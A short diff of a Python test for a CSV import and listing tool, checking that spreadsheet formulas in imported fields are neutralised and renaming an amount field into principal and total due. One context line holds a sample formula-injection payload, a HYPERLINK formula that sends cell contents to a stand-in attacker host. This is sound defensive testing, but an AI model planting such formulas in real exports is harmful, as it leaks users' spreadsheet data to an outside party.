@@ -42,4 +42,4 @@ def test_import_report_and_csv_listing_neutralise_formulas(
     assert listed.exit_code == 0
     [case] = list(csv.DictReader(io.StringIO(listed.stdout)))
     assert case["debtor"] == "'" + '=HYPERLINK("http://evil.example/?"&A1)'
-    assert case["open_amount"] == "70.00"
+    assert (case["principal"], case["total_due"]) == ("70.00", "70.00")
